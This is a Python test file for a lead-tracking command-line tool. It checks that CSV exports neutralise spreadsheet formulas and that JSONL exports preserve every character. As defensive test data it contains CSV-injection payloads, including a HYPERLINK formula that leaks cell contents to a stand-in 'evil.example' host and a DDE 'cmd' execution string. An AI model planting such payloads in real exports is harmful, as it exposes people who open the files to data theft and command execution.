"""Exports are safe to open (issue 6): no CSV cell runs as a formula in a spreadsheet, and
JSON Lines gives back every stored character exactly.

Decision on leading blanks: some spreadsheets skip spaces (and invisible characters such
as a zero-width space or a BOM) before `=`, and accept the full-width signs, so a cell is
neutralised when its first visible character is = + - @ (ASCII or full-width), or when it
starts with a tab or carriage return. Intake trims text, so through the command line such
cells can only come from stored data; the rule is tested on the cell function directly
and on the whole CSV export.
"""

from __future__ import annotations

import csv
import io
import json
import tempfile
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from safety_support import NOW, run_main

from leadtui.domain.cadence import load_cadence
from leadtui.domain.model import LeadDraft
from leadtui.io.export import neutralise
from leadtui.store.repository import open_store

SIGNS = set("=+-@\uff1d\uff0b\uff0d\uff20")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\uff1d1+1",
    "=1\n=2",
]


def first_visible(cell: str) -> str:
    for char in cell:
        if char.isspace() or unicodedata.category(char) in ("Cc", "Cf", "Zs"):
            continue
        return char
    return ""


def spreadsheet_would_run(cell: str) -> bool:
    """What a cautious spreadsheet might evaluate (an unquoted formula cell)."""
    return cell.startswith(("\t", "\r")) or first_visible(cell) in SIGNS


@pytest.mark.parametrize(
    "cell",
    [" =1+1", "   @SUM(A1)", "\u00a0=1", "\u3000=1", "\u200b=1", "\ufeff+1", "\n-1", "\uff1d1",
     " \t=1", "\x00=1"],
)  # fmt: skip
def test_formula_after_blanks_or_invisible_characters_is_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Ann", "", " ", "a=b", "Zoë", "  Ann", "100", "'=quoted"])
def test_ordinary_cells_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


@settings(max_examples=300)
@given(cell=st.text(max_size=12) | st.builds("".join, st.lists(st.sampled_from(
    [" ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "=", "+", "-", "@", "\uff1d", "a", "'"]
), max_size=6)))  # fmt: skip
def test_no_cell_is_left_that_a_spreadsheet_would_run(cell: str) -> None:
    out = neutralise(cell)
    assert out in (cell, "'" + cell)
    assert not spreadsheet_would_run(out)
    if out == "'" + cell:
        assert spreadsheet_would_run(cell)


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_export_through_the_cli_neutralises_every_formula(tmp_path: Path) -> None:
    home = str(tmp_path / "home")
    for n, formula in enumerate(FORMULAS):
        code, out, err = run_main(
            "--home", home, "--now", NOW, "add", f"--name={formula}",
            f"--phone=212-555-01{n:02d}", f"--source={formula}", f"--notes={formula}",
        )  # fmt: skip
        assert code == 0, err
    # stored data from elsewhere (an older leadtui, another tool) can start with blanks
    store = open_store(Path(home) / "leads.json", cadence=load_cadence())
    at = datetime(2025, 3, 10, 17, tzinfo=UTC)
    padded = LeadDraft(" =1+1", "+12125550188", "", " @SUM(A1)", "America/New_York", at,
                       notes="\u200b=HYPERLINK(1)")  # fmt: skip
    store.add_leads([padded], at)
    store.close()
    code, out, err = run_main("--home", home, "--now", NOW, "export")
    assert code == 0, err
    out_file = tmp_path / "leads.csv"
    assert run_main("--home", home, "--now", NOW, "export", "--output", str(out_file))[0] == 0
    assert out_file.read_bytes().decode("utf-8") == out
    rows = csv_cells(out)
    assert len(rows) == len(FORMULAS) + 2
    neutralised = 0
    for row in rows[1:]:
        for cell in row:
            assert not spreadsheet_would_run(cell), (cell, row)
            neutralised += cell.startswith("'")
    assert neutralised >= 3 * len(FORMULAS) + 3  # name, source, notes (+ the phone)
    names = {row[1] for row in rows[1:]}
    assert "' =1+1" in names and "'=cmd|' /C calc'!A0" in names


# Text that intake accepts: anything (it cleans it); the export must give back what was stored.
any_text = st.text(max_size=30) | st.sampled_from(
    ["Zoë 山田 😀", "=SUM(1)", "a\x1b[31mb", "\u202eevil", "x\r\ny", "tab\there", "\ud800", "'"]
)


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(name=any_text.map(lambda text: "N" + text), source=any_text, notes=any_text, note=any_text,
       email=st.sampled_from(["", "zoë@example.com", "A.B+tag@Example.COM"]))  # fmt: skip
def test_jsonl_export_round_trips_every_stored_character(
    name: str, source: str, notes: str, note: str, email: str
) -> None:
    with tempfile.TemporaryDirectory() as home:
        code, out, err = run_main(
            "--home", home, "--now", NOW, "add", f"--name={name}", "--phone=212-555-0177",
            f"--source={source}", f"--notes={notes}", f"--email={email}",
        )  # fmt: skip
        event("stored" if code == 0 else "refused at intake")
        if code:
            return  # refused at intake (e.g. an empty name): nothing stored
        lead_id = out.strip()
        assert (
            run_main("--home", home, "--now", NOW, "log", lead_id, "email", f"--note={note}")[0]
            == 0
        )
        store = open_store(Path(home) / "leads.json", cadence=load_cadence())
        lead, touches = store.get_lead(lead_id), store.touches(lead_id)
        store.close()
        code, out, _ = run_main("--home", home, "--now", NOW, "export", "--format", "jsonl")
        assert code == 0 and out.isascii()
        (record,) = [json.loads(line) for line in out.splitlines()]
        for key in ("id", "name", "phone", "email", "source", "timezone", "notes"):
            assert record[key] == getattr(lead, key), key
        assert record["status"] == str(lead.status)
        assert record["received_at"] == lead.received_at.isoformat()
        assert [t["note"] for t in record["touches"]] == [t.note for t in touches]
        assert [t["id"] for t in record["touches"]] == [t.id for t in touches]
        # the CSV gives back the same text too, apart from the neutralising quote
        code, out, _ = run_main("--home", home, "--now", NOW, "export")
        row = dict(zip(*csv_cells(out), strict=True))
        for key in ("name", "email", "source", "notes"):
            value = getattr(lead, key)
            assert row[key] in (value, "'" + value), key
